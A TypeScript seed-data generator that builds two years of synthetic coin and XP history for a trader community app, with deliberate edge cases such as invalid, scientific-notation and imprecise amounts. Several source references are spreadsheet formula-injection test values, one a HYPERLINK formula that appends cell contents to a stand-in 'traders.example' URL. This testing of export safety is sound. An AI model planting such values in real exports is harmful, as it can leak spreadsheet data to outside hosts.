import { textSeed } from '../random.ts';
import type { CoinDetails, HistoryEntry, NewHistoryEntry } from '../store/historyTable.ts';
import type { User } from '../store/userTable.ts';
import { DEFAULT_QUALITY_NOTES } from '../userChanges.ts';
import { fieldIdOf } from './community.ts';
import { type FieldEvent, fieldEvents } from './fieldEvents.ts';
import { ANALYST_COUNT, SPECIAL_TRADERS } from './users.ts';

const DAY = 86_400_000;
const SPAN = 730 * DAY;
/** Only the first traders of the seed have a history. */
export const MAX_HISTORY_TRADERS = 1200;
/** Past the 10,000 entries that can be reached (P2 4.3). */
const LONG_HISTORY = 12_000;
/** Balances are summed up as integers of 1/UNITS to avoid rounding errors. */
const UNITS = 1e8;

/** What the seeded history leaves the traders with. */
interface SeededBalances {
  /** By index in the seed; traders beyond its end have nothing. */
  readonly coins: Float64Array;
  readonly xp: Float64Array;
  readonly events: readonly FieldEvent[];
}

/** What seeded XP or coin entries of one kind have in common. */
interface EntryKind {
  readonly kind: 'xp' | 'coin';
  readonly fieldId: string;
  readonly fieldKey: string;
  readonly action: string;
  readonly activity: HistoryEntry['activity'];
  /** Coin entries only. */
  readonly coin?: CoinKind;
}

/** What coin entries of one kind have in common (P1 2.2). */
interface CoinKind {
  readonly operation: CoinDetails['operation'];
  readonly notes: readonly string[];
  /** The amount as the file writes it; null when missing or invalid. */
  readonly deltaOf: (amount: number) => string | null;
  /** JSON of the original action data. */
  readonly rawActionOf: (amount: number) => string;
  /** Prefix of the source reference, e.g. `TRD-`, followed by a unique number; null for none. */
  readonly source: string | null;
}

/** A seeded entry before it is written out: `amount` as recorded, `change` as the balance moved. */
interface BalanceEvent {
  readonly at: number;
  /** Index in the seed. */
  readonly trader: number;
  readonly kind: EntryKind;
  readonly amount: number;
  readonly change: number;
}

/** The balances after all seeded entries; about 100 ms. */
export function seedBalances(users: readonly User[], coinRows: number, now: number): SeededBalances {
  const events = seedEvents(users, coinRows, now);
  for (let step = events.next(); ; step = events.next()) if (step.done) return step.value;
}

/** The seeded entries, oldest first: `coinRows` coin entries over the two years up to `now`, and fewer for XP and fields. */
export function* seedHistory(users: readonly User[], coinRows: number, now: number): Generator<NewHistoryEntry> {
  let index = 0;
  for (const event of seedEvents(users, coinRows, now)) {
    yield entryOf(event, users[event.trader]?.platformUserId ?? '', index++);
  }
}

function* seedEvents(
  users: readonly User[],
  coinRows: number,
  now: number,
): Generator<BalanceEvent | FieldEvent, SeededBalances> {
  const known = users.slice(0, MAX_HISTORY_TRADERS);
  const events = fieldEvents(known, now);
  const balanceRows = coinRows + Math.floor(coinRows / 4);
  const [coinTurn, xpTurn] = [weightedIndexes(COIN_KINDS), weightedIndexes(XP_KINDS)];
  const draw = createUniform('history');
  const pick = createTraderPicker(known, now - SPAN, coinRows, draw);
  const [coins, xp] = [new Float64Array(known.length), new Float64Array(known.length)];
  let nextEvent = 0;
  let at = 0;
  for (let row = 0; row < balanceRows; row++) {
    // Every 40th is recorded in the same millisecond as its predecessor.
    if (row % 40 !== 39) at = Math.floor(now - SPAN + ((row + draw() * 0.99) / balanceRows) * SPAN);
    for (let event = events[nextEvent]; event !== undefined && event.at < at; event = events[++nextEvent]) yield event;
    const isXp = row % 5 === 4;
    const trader = isXp ? pick.any(at) : pick.forCoins(at);
    const [balances, turn, kinds] = isXp ? [xp, xpTurn, XP_KINDS] : [coins, coinTurn, COIN_KINDS];
    let chosen = kinds[turn[Math.floor(draw() * turn.length)] ?? 0];
    const chance = draw();
    const balance = balances[trader] ?? 0;
    let amount = chosen?.amountOf(chance) ?? 0;
    if (chosen?.effect === 'take' && Math.round(amount * UNITS) > balance) {
      chosen = kinds[isXp ? FALLBACK_XP_KIND : FALLBACK_COIN_KIND];
      amount = chosen?.amountOf(chance) ?? 0;
    }
    if (chosen === undefined) continue;
    const after = applyEffect(balance, chosen.effect, Math.round(amount * UNITS));
    balances[trader] = after;
    yield { at, trader, kind: chosen.kind, amount, change: (after - balance) / UNITS };
  }
  yield* events.slice(nextEvent);
  return { coins: coins.map((units) => units / UNITS), xp: xp.map((units) => units / UNITS), events };
}

function entryOf(event: BalanceEvent | FieldEvent, platformUserId: string, index: number): NewHistoryEntry {
  if ('storedValue' in event) {
    const { at, kind, value, storedValue } = event;
    return { at, platformUserId, ...kind, value, storedValue };
  }
  const { at, amount, change } = event;
  const { kind, fieldId, fieldKey, action, activity, coin } = event.kind;
  const shared = { at, platformUserId, fieldId, fieldKey, kind, action, activity };
  if (coin === undefined) return { ...shared, value: change, storedValue: null };
  const delta = coin.deltaOf(amount);
  return {
    ...shared,
    value: delta === null ? null : change,
    storedValue: null,
    coin: {
      operation: coin.operation,
      delta,
      absolute: coin.operation === 'overwrite' ? delta : null,
      rawAction: coin.rawActionOf(amount),
      sourceReference: coin.source === null ? null : `${coin.source}${10_000 + index}`,
      notes: coin.notes,
    },
  };
}

function applyEffect(balance: number, effect: WeightedKind['effect'], units: number): number {
  switch (effect) {
    case 'add':
      return balance + units;
    case 'take':
      return balance - units;
    case 'assign':
      return units;
    case 'none':
      return balance;
  }
}

/** Each index as often as its weight. */
function weightedIndexes(sorts: readonly WeightedKind[]): Uint8Array {
  return Uint8Array.from(sorts.flatMap(({ weight }, number) => Array.from({ length: weight }, () => number)));
}

/** Picks traders who had joined and have XP; one trader is picked often enough for the long history. */
function createTraderPicker(users: readonly User[], start: number, coinRows: number, draw: () => number) {
  const joined = users.map(({ joinedAt, hasXpRecord }) => {
    if (!hasXpRecord) return Number.POSITIVE_INFINITY;
    return joinedAt === null ? start : Date.parse(joinedAt);
  });
  const any = (at: number) => {
    for (let tries = 0; tries < 6; tries++) {
      const trader = Math.floor(draw() * users.length);
      if ((joined[trader] ?? 0) <= at && trader !== SPECIAL_TRADERS.longHistory) return trader;
    }
    // The analysts joined before the history begins.
    return Math.floor(draw() * ANALYST_COUNT);
  };
  const long = Math.min(LONG_HISTORY, Math.floor(coinRows / 4));
  let [picks, given] = [0, 0];
  return {
    any,
    forCoins: (at: number) => {
      picks += 1;
      if (Math.floor((picks * long) / coinRows) <= given) return any(at);
      given += 1;
      return SPECIAL_TRADERS.longHistory;
    },
  };
}

/** Fast random numbers from 0 to 1 (Mulberry32), the same in every run. */
function createUniform(name: string): () => number {
  let state = textSeed(name) | 0;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 0x1_0000_0000;
  };
}

/** A kind of entry with its effect on the balance and its frequency. */
interface WeightedKind {
  readonly weight: number;
  readonly kind: EntryKind;
  /** `assign` sets the balance, `none` leaves it. */
  readonly effect: 'add' | 'take' | 'assign' | 'none';
  /** The amount, from a number between 0 and 1. */
  readonly amountOf: (draw: number) => number;
}

const UNUSUAL_DELTA = {
  /** `2.5e+3`. */
  scientific: (amount: number) => amount.toExponential(),
  /** With the noise of binary fractions: `12.340000000000001`. */
  legacy: (amount: number) => String(amount + 1e-15 * Math.max(1, amount)),
} as const;

interface CoinKindOptions {
  readonly activity?: EntryKind['activity'];
  readonly source?: string;
  readonly note?: string;
  readonly deltaOf?: CoinKind['deltaOf'];
  /** JSON of the amount in the original action data. */
  readonly rawAmountOf?: (amount: number) => string;
}

/** Quarters of a coin from `low` to `high`. */
const quarters = (low: number, high: number) => (draw: number) => low + Math.floor(draw * (high - low) * 4) / 4;
const constant = (amount: number) => () => amount;

/** Covers every operation and quality note of P1 2.2, with all kinds of amounts. */
const COIN_KINDS: readonly WeightedKind[] = [
  coinKind(260, 'increase', 'daily_login', 'add', quarters(1, 25), {}),
  coinKind(140, 'increase', 'message_reward', 'add', quarters(0.25, 5), { activity: 'message' }),
  coinKind(70, 'increase', 'reply_reward', 'add', quarters(0.25, 4), { activity: 'reply' }),
  coinKind(60, 'increase', 'reaction_reward', 'add', quarters(0.25, 2), { activity: 'reaction' }),
  coinKind(30, 'increase', 'social_reward', 'add', quarters(1, 10), { activity: 'social' }),
  coinKind(150, 'increase', 'trade_reward', 'add', quarters(5, 120), { source: 'TRD-' }),
  coinKind(40, 'increase', 'bulk_update', 'add', quarters(10, 500), { source: 'bulk ' }),
  coinKind(120, 'decrease', 'store_purchase', 'take', quarters(10, 200), { source: 'ORD' }),
  coinKind(20, 'decrease', 'message_removed', 'take', quarters(0.25, 5), { activity: 'message' }),
  coinKind(15, 'decrease', 'admin_correction', 'take', quarters(1, 60), {}),
  coinKind(15, 'overwrite', 'admin_set', 'assign', quarters(0.25, 900), {}),
  coinKind(8, 'overwrite', 'season_reset', 'assign', constant(0), {}),
  coinKind(25, 'expiry', 'points_expired', 'take', quarters(1, 80), { source: 'EXP/' }),
  // An expiry that adds points: clients must check the sign before summing up.
  coinKind(4, 'expiry', 'points_expired', 'add', quarters(1, 40), { note: 'expiry_sign_unexpected' }),
  coinKind(10, 'unknown', 'imported', 'add', quarters(1, 50), { source: 'legacy:' }),
  coinKind(3, 'unknown', 'imported', 'none', constant(0), { ...invalidAmount('null') }),
  coinKind(3, 'increase', 'imported', 'none', constant(0), { ...invalidAmount('"twelve"') }),
  coinKind(3, 'decrease', 'imported', 'none', constant(0), { ...invalidAmount('""') }),
  coinKind(2, 'overwrite', 'imported', 'none', constant(0), { ...invalidAmount('"1,5"') }),
  // Movements of zero are recorded but not exported.
  coinKind(6, 'increase', 'capped_reward', 'add', constant(0), {}),
  coinKind(2, 'decrease', 'store_purchase', 'take', constant(0), { source: 'ORD' }),
  coinKind(3, 'increase', 'season_bonus', 'add', (draw) => 1000 + Math.floor(draw * 30) * 100, {
    deltaOf: UNUSUAL_DELTA.scientific,
    rawAmountOf: UNUSUAL_DELTA.scientific,
  }),
  coinKind(2, 'increase', 'dust', 'add', constant(1e-7), {}),
  coinKind(5, 'increase', 'migrated_reward', 'add', (draw) => 1.1 + Math.floor(draw * 400) / 100, {
    note: 'legacy_number_precision_unverified',
    deltaOf: UNUSUAL_DELTA.legacy,
    rawAmountOf: UNUSUAL_DELTA.legacy,
  }),
  // References that a spreadsheet would read as formulas.
  coinKind(2, 'increase', 'partner_reward', 'add', quarters(1, 20), {
    source: '=HYPERLINK("https://traders.example/?"&A1)#',
  }),
  coinKind(2, 'increase', 'partner_reward', 'add', quarters(1, 20), { source: '+49 ' }),
  coinKind(1, 'increase', 'partner_reward', 'add', quarters(1, 20), { source: '@SUM(A1:A9),' }),
  coinKind(1, 'decrease', 'partner_claim', 'take', quarters(1, 20), { source: '-1+2;' }),
];

/** Index of the replacement when a balance is too small to take from. */
const FALLBACK_COIN_KIND = 0;

function coinKind(
  weight: number,
  operation: CoinKind['operation'],
  action: string,
  effect: WeightedKind['effect'],
  amountOf: WeightedKind['amountOf'],
  extra: CoinKindOptions,
): WeightedKind {
  const sign = effect === 'take' ? -1 : 1;
  const rawStart = `{"type":${JSON.stringify(action)},"amount":`;
  const rawAmountOf = extra.rawAmountOf ?? String;
  const notes = [
    ...DEFAULT_QUALITY_NOTES,
    ...(operation === 'overwrite' ? ['absolute_overwrite_not_an_earn'] : []),
    ...(extra.note === undefined ? [] : [extra.note]),
  ];
  return {
    weight,
    effect,
    amountOf,
    kind: {
      kind: 'coin',
      fieldId: fieldIdOf('total_coins'),
      fieldKey: 'total_coins',
      action,
      activity: extra.activity ?? null,
      coin: {
        operation,
        notes,
        deltaOf: extra.deltaOf ?? ((amount) => String(sign * amount + 0)),
        rawActionOf: (amount) => `${rawStart}${rawAmountOf(amount)}}`,
        source: extra.source ?? null,
      },
    },
  };
}

/** An amount that cannot be read: unknown, not zero. */
function invalidAmount(raw: string): CoinKindOptions {
  return { note: 'points_amount_invalid', deltaOf: () => null, rawAmountOf: () => raw };
}

const integers = (low: number, high: number) => (draw: number) => low + Math.floor(draw * (high - low + 1));

/** Sources and losses of XP, including activity (P1 2.6) and removed messages. */
const XP_KINDS: readonly WeightedKind[] = [
  xpKind(45, 'message_xp', 'add', integers(1, 10), 'message'),
  xpKind(22, 'reply_xp', 'add', integers(1, 8), 'reply'),
  xpKind(18, 'reaction_xp', 'add', integers(1, 3), 'reaction'),
  xpKind(8, 'social_xp', 'add', integers(2, 15), 'social'),
  xpKind(4, 'message_removed', 'take', integers(1, 10), 'message'),
  xpKind(10, 'daily_login', 'add', integers(5, 20), null),
  xpKind(2, 'trade_bonus', 'add', (draw) => Math.floor(draw * 4000) / 100, null),
  xpKind(1, 'admin_correction', 'take', integers(1, 50), null),
];

/** Index of the replacement when there is too little to take from. */
const FALLBACK_XP_KIND = 0;

function xpKind(
  weight: number,
  action: string,
  effect: WeightedKind['effect'],
  amountOf: WeightedKind['amountOf'],
  activity: EntryKind['activity'],
): WeightedKind {
  const kind = { kind: 'xp', fieldId: fieldIdOf('total_xp'), fieldKey: 'total_xp', action, activity } as const;
  return { weight, effect, amountOf, kind };
}
